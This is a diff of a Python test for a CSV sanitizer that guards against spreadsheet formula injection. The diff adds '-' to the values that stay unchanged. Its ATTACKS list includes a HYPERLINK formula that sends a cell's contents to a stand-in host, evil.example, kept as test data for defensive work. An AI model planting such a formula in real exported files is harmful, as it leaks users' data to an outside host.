@@ -21,7 +21,7 @@ ATTACKS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", 
 def test_csv_safe_quotes_formulas_and_keeps_numbers():
     for text in ATTACKS:
         assert is_risky(text) and csv_safe(text) == "'" + text
-    for v in ["-12.5", "-1,234.50", "-12%", "1e-3", "汽车城", "", "J1-J2", "成龙大道以北、驿都大道以东"]:
+    for v in ["-12.5", "-1,234.50", "-12%", "1e-3", "-", "汽车城", "", "J1-J2", "成龙大道以北、驿都大道以东"]:
         assert csv_safe(v) == v
     for v in [-12.5, -3, 0, 1.5, None]:
         assert csv_safe(v) == v  # numbers are numbers, a negative one too
